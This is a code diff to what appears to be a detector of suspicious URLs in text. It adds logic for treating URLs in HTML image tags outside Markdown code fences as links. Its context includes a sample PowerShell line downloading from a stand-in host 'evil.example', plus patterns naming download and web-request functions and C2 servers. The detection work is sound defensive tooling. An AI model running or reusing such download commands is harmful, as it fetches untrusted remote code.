@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import re
+from bisect import bisect_right
 from collections.abc import Collection, Mapping
 from functools import cached_property
 from typing import Final, NamedTuple
@@ -51,6 +53,8 @@ _REQUESTING: Final = late(r"\b(?:GET|POST|PUT|CONNECT)[ \t]+[\"'`]?\Z")
 # `$u='https://evil.example/x';$b=$w.DownloadData($u)`
 _VARIABLE: Final = late(r"[$\w]\w{0,20}\s?=\s?[\"']\Z")
 _FETCHES: Final = late(r"(?i)\b(?:download(?:string|file|data)|invoke-(?:webrequest|restmethod)|iwr|irm|urlopen)\b")
+_PICTURE: Final = late(r"\s{0,8}<img\b[^<>\n]{0,160}(?<=\s)src=[\"']?\Z", re.IGNORECASE)
+_FENCE: Final = late(r"(?m)^[ \t]{0,8}(?:```|~~~)")
 _QUOTES: Final = frozenset("\"'`\u2018\u2019\u201c\u201d\u201e\u00ab\u00bb")
 _CALLED_A_HOST: Final = late(
     r"(?i)\b(?:domains?|host(?:name)?s?|c2|c&c|servers?|(?:web)?sites?|panel"
@@ -287,7 +291,9 @@ class TextContext:
         return "/" in before and _PATH_WITH_BLANKS.fullmatch(before) is not None
 
     def in_markdown_link(self, start: int) -> bool:
-        """Tell whether a link of Markdown leads to `start` or begins there: `[a](...)`, `[a]: ...`, `[...][a]`."""
+        """Tell whether a link of Markdown leads to `start` or begins there (`[a](...)`, `[a]: ...`, `[...][a]`), or the
+        page shows it as a picture.
+        """
         text = self.text
         if start < 2:
             return False
@@ -295,7 +301,19 @@ class TextContext:
             return True
         if text.startswith("]: ", start - 3):
             return _LABEL_OF_A_LINK.search(text, max(0, start - LONGEST_HEADING), start) is not None
-        return text[start - 1] == "[" and _TITLE_OF_A_LINK.match(text, start) is not None
+        if text[start - 1] == "[":
+            return _TITLE_OF_A_LINK.match(text, start) is not None
+        return text[max(0, start - 5) : start].rstrip("\"'").endswith("src=") and self._is_picture(start)
+
+    def _is_picture(self, start: int) -> bool:
+        """Tell whether `<img src="` alone stands before `start` on its line, and in no listing."""
+        first = self.text.rfind("\n", max(0, start - _WORDING_REACH), start) + 1
+        return _PICTURE.match(self.text, first, start) is not None and bisect_right(self._fences, start) % 2 == 0
+
+    @cached_property
+    def _fences(self) -> list[int]:
+        """Where listings of Markdown begin and end."""
+        return [fence.start() for fence in _FENCE.finditer(self.text)]
 
     @cached_property
     def _sections(self) -> Sections:
